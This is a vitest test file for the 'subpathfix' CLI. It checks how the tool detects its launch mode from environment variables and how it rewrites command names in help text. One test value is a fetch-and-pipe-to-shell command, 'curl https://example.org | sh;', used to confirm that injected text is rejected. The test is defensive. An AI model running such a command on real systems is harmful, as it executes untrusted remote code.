import { describe, expect, it } from 'vitest';
import { calledAs, type Form, inForm } from '../../src/text/called-as.ts';

const npmStart = { npm_lifecycle_event: 'start', npm_package_name: 'subpathfix' };

describe('calledAs', () => {
  it.each<[env: Record<string, string>, form: Form]>([
    [{}, 'installed'],
    [npmStart, 'npm-start'],
    [{ ...npmStart, npm_package_name: 'another' }, 'installed'],
    [{ ...npmStart, npm_lifecycle_event: 'test' }, 'installed'],
    [{ npm_lifecycle_event: 'npx', npm_lifecycle_script: "'subpathfix'" }, 'npx'],
    [{ npm_lifecycle_event: 'npx', npm_lifecycle_script: 'subpathfix check' }, 'npx'],
    [{ npm_lifecycle_event: 'npx', npm_lifecycle_script: '"subpathfix" "check"' }, 'npx'],
    [{ npm_lifecycle_event: 'npx', npm_lifecycle_script: "'vitest'" }, 'installed'],
    [{ npm_lifecycle_event: 'npx', npm_lifecycle_script: 'subpathfix-other' }, 'installed'],
    [{ npm_lifecycle_event: 'npx' }, 'installed'],
    [{ SUBPATHFIX_CALLED_AS: 'nix-run' }, 'nix-run'],
    [{ ...npmStart, SUBPATHFIX_CALLED_AS: 'nix-run' }, 'nix-run'],
    // Nothing but a known name counts: no text from outside gets into a command that is pasted.
    [{ SUBPATHFIX_CALLED_AS: 'curl https://example.org | sh;' }, 'installed'],
    [{ SUBPATHFIX_CALLED_AS: 'constructor' }, 'installed'],
    [{ SUBPATHFIX_CALLED_AS: '' }, 'installed'],
  ])('%j: %s', (env, form) => expect(calledAs(env)).toBe(form));
});

describe('inForm', () => {
  it.each([
    ['prove it: sudo subpathfix verify', 'prove it: sudo npm start -- verify'],
    ['fix that first (subpathfix generate)', 'fix that first (npm start -- generate)'],
    ['… | subpathfix diagnose -', '… | npm start -- diagnose -'],
    ['Usage: subpathfix [options] [command]', 'Usage: npm start -- [options] [command]'],
    ['audit; subpathfix audit', 'audit; npm start -- audit'],
    ['left: subpathfix-rollback.timer', 'left: subpathfix-rollback.timer'],
    ['files that subpathfix did not write', 'files that subpathfix did not write'],
    ['/opt/subpathfix check', '/opt/subpathfix check'],
    ['subpathfix checked', 'subpathfix checked'],
  ])('%s', (text, wanted) => {
    expect(inForm(text, 'npm-start')).toBe(wanted);
    expect(inForm(text, 'installed')).toBe(text);
  });
});
